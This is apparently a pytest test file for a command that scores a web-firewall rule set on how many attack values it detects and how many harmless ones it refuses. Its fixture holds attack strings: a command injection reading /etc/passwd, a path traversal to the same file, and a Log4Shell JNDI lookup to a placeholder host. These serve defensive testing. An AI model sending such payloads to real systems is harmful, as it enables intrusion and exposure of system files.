"""`troth rules score`: each line of a file is one value, judged by the whole engine."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from troth.cli.program import group
from troth.kernel.errors import Failure
from troth.roles import score as scoring
from troth.roles.score import PLACES, request, score

ATTACKS = b";cat /etc/passwd\n../../etc/passwd\n\n${jndi:ldap://x.example/a}\n"
HARMLESS = b"cat & dog; ls, the list\nDear {{ first_name }}\n50 % off; echo of summer\n"


@pytest.fixture
def lists(tmp_path: Path) -> tuple[Path, Path]:
    attacks, harmless = tmp_path / "attacks.txt", tmp_path / "harmless.txt"
    attacks.write_bytes(ATTACKS)
    harmless.write_bytes(HARMLESS)
    return attacks, harmless


@pytest.mark.parametrize("place", PLACES)
def test_attacks_are_detected_and_people_may_write_in_every_place(place: scoring.Place, lists):
    told = score([lists[0]], [lists[1]], place=place, folder=None, progress=lambda _: None)

    assert (told.attacks, told.detected, told.harmless, told.refused) == (3, 3, 3, 0)
    assert told.detection_rate == 1.0
    assert told.false_positive_rate == 0.0
    assert (told.misses, told.false_alarms) == ((), ())


def test_misses_and_false_alarms_are_told_clipped(tmp_path: Path):
    wrong = tmp_path / "wrong.txt"
    wrong.write_bytes(b"hello " * 100 + b"\n")
    alarm = tmp_path / "alarm.txt"
    alarm.write_bytes(b";cat /etc/passwd\n")

    told = score([wrong], [alarm], place="query", folder=None, progress=lambda _: None)

    assert told.detection_rate == 0.0
    assert told.false_positive_rate == 1.0
    assert len(told.misses[0].value) == scoring.CLIPPED
    assert 9004001 in told.false_alarms[0].rules
    assert list(scoring.lines(told))[-1] == "refused 1 of 1 harmless values, 100.0000%"


def test_any_rule_set_can_be_judged(tmp_path: Path, lists):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.conf").write_text(
        'SecRuleEngine On\nSecRule ARGS "@contains cat" "id:10,phase:2,deny,status:403"\n'
    )

    told = score([lists[0]], [lists[1]], place="form", folder=rules, progress=lambda _: None)

    assert (told.detected, told.refused) == (1, 1)


def test_a_value_stands_whole_in_its_place():
    value = b"a&b=c%20\xc3\xa9\r\n"

    assert request(value, "query").uri.endswith(b"?value=a%26b%3Dc%2520%C3%A9%0D%0A")
    assert request(value, "form").body == b"value=a%26b%3Dc%2520%C3%A9%0D%0A"
    assert json.loads(request(value, "json").body or b"") == {"value": value.decode()}
    assert request(value, "header").headers[-1] == (b"X-Value", b"a&b=c%20\xc3\xa9")
    assert request(value, "path").uri == b"/a%26b%3Dc%2520%C3%A9%0D%0A"


def test_nothing_to_judge_is_an_error(tmp_path: Path):
    with pytest.raises(Failure, match="nothing to judge"):
        score([], [], place="form", folder=None, progress=lambda _: None)
    with pytest.raises(Failure, match="cannot be read"):
        score([tmp_path / "none"], [], place="form", folder=None, progress=lambda _: None)


def test_the_command_takes_several_files_after_one_option(lists):
    attacks, harmless = map(str, lists)

    done = CliRunner().invoke(
        group,
        ["rules", "score", "--attacks", attacks, attacks, "--harmless", harmless, "--json"],
    )

    told = json.loads(done.stdout)
    assert (told["attacks"], told["harmless"]) == (6, 3)
    assert (told["detection_rate"], told["false_positive_rate"]) == (1.0, 0.0)
    assert "attacks.txt: done" in done.stderr
